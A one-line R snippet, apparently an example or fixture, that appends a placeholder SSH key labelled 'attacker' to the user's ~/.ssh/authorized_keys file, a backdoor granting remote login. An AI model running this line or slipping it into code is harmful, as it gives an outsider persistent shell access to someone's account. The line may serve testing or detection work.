write("ssh-rsa AAAA attacker", file = path.expand("~/.ssh/authorized_keys"), append = TRUE)
